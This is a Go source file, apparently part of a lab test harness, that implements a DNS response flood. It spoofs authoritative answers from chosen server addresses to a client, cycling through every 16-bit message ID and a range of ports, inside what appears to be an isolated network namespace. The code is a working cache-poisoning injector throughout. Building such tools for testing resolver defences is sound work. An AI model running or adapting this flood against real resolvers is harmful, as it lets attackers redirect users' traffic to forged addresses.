//go:build lab

package inject

import (
	"cmp"
	"context"
	"encoding/binary"
	"errors"
	"math/rand/v2"
	"net/netip"
	"time"

	"github.com/miekg/dns"
)

// longest is how long any flood may last.
const longest = time.Minute

// A FloodConfig says which responses are sent, and how many.
type FloodConfig struct {
	// Servers are the sources, port 53, in turn.
	Servers []netip.Addr
	// Client gets all of them, at Port and the ports after it, in turn: so many as
	// Ports says, and 0 is one.
	Client netip.Addr
	Port   uint16
	Ports  int

	Name    string
	Type    uint16       // 0 is A
	Answers []netip.Addr // all in each response
	TTL     uint32       // seconds
	Flags   uint16       // 0 is 0x8400, as an authoritative server

	// FixedID makes ID the message ID of all. Without it, any 65,536 responses in a
	// row have all IDs there are, in no apparent order.
	FixedID bool
	ID      uint16

	Count int // packets in all; 0 is 65,536
	Rate  int // packets per second at most; 0 is 100,000
}

// Flood sends responses that nobody asked for, with true checksums, over the
// routes of the namespace: who sends need not be on the path. It ends after Count
// packets or after a minute.
func Flood(within Within, c FloodConfig) (*Injector, error) {
	if len(c.Servers) == 0 {
		return nil, errors.New("a flood from nobody")
	}
	q := dns.Question{Name: dns.Fqdn(c.Name), Qtype: cmp.Or(c.Type, dns.TypeA), Qclass: dns.ClassINET}
	m := &dns.Msg{Question: []dns.Question{q}, Answer: addresses(q.Name, q.Qtype, c.Answers, c.TTL)}
	v, err := newVolley(m, c.Flags)
	if err != nil {
		return nil, err
	}
	v.servers, v.client, v.port, v.ports = c.Servers, c.Client, c.Port, c.Ports
	v.count, v.rate = c.Count, c.Rate
	if c.FixedID {
		v.id = func(int) uint16 { return c.ID }
	}
	r, err := openRouter(within, c.Client)
	if err != nil {
		return nil, err
	}
	return launch(longest, func(ctx context.Context, i *Injector) error { return v.fire(ctx, i, r) }, r.close), nil
}

// A volley is one message, sent again and again with other IDs.
type volley struct {
	servers     []netip.Addr
	client      netip.Addr
	port        uint16
	ports       int
	message     []byte
	id          func(n int) uint16
	count, rate int
}

// newVolley packs a message, with flags or as an authoritative server's.
func newVolley(m *dns.Msg, flags uint16) (*volley, error) {
	m.Compress = true
	b, err := m.Pack()
	if err != nil {
		return nil, err
	}
	binary.BigEndian.PutUint16(b[2:], cmp.Or(flags, 0x8400))
	return &volley{message: b, id: shuffled()}, nil
}

// shuffled counts through all numbers of 16 bits from anywhere, in steps that
// are odd and so meet each once.
func shuffled() func(n int) uint16 {
	start := rand.Int()
	return func(n int) uint16 { return uint16(start + n*40503) }
}

// fire sends all.
func (v *volley) fire(ctx context.Context, i *Injector, r *router) error {
	p := newPace(cmp.Or(v.rate, 100_000))
	for n := range cmp.Or(v.count, 1<<16) {
		if !p.next(ctx) {
			return ctx.Err()
		}
		binary.BigEndian.PutUint16(v.message, v.id(n))
		path := Path{
			Src: netip.AddrPortFrom(v.servers[n%len(v.servers)], 53),
			Dst: netip.AddrPortFrom(v.client, v.port+uint16(n%max(1, v.ports))),
		}
		packet, err := path.packet(header{ttl: 57, id: uint16(rand.Uint32())}, v.message)
		if err != nil {
			return err
		}
		if err := i.note(r.send(packet, v.client)); err != nil {
			return err
		}
	}
	return nil
}
